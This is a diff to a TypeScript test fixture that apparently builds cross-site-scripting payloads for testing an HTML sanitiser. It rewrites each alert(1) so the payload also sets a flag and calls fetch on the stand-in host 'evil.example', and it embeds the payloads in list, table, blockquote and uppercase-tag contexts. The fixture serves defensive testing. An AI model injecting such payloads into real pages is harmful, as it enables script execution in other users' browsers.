@@ -1,4 +1,5 @@
 import { RICH_TEXT_ATTACKS } from 'shared-contracts/fixtures';
+import { rounds } from '../support/rounds.ts';
 
 /** Where a script that runs reports to; nothing answers there. */
 export const LISTENER = 'https://evil.example/ran';
@@ -6,9 +7,18 @@ export const LISTENER = 'https://evil.example/ran';
 /** Every payload tells in each way it knows that it ran. */
 const loud = (html: string): string => html.replaceAll(/alert\(1\)/g, `(window.ran=1,alert(1),fetch('${LISTENER}'))`);
 
+/** Where an attack stands in its text; parsers read the same one differently in each. */
+const PLACES: readonly ((html: string) => string)[] = [
+  (html) => html,
+  (html) => html.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
+  (html) => `<ul><li>${html}</li></ul>`,
+  (html) => `<table><tr><td>${html}`,
+  (html) => `<blockquote><a href="https://example.org">${html}</a></blockquote>`,
+];
+
 /** Formatted texts that attack, behind words that stay: a text of which nothing is left is refused with its section. */
-export const HOSTILE_HTML: readonly string[] = RICH_TEXT_ATTACKS.map(({ html }) =>
-  loud(`<p>x</p>${html.replaceAll('\0', '')}`),
+export const HOSTILE_HTML: readonly string[] = rounds(PLACES.slice(0, 1), PLACES).flatMap((place) =>
+  RICH_TEXT_ATTACKS.map(({ html }) => `<p>x</p>${place(loud(html.replaceAll('\0', '')))}`),
 );
 
 const RUN = 'window.ran=1';
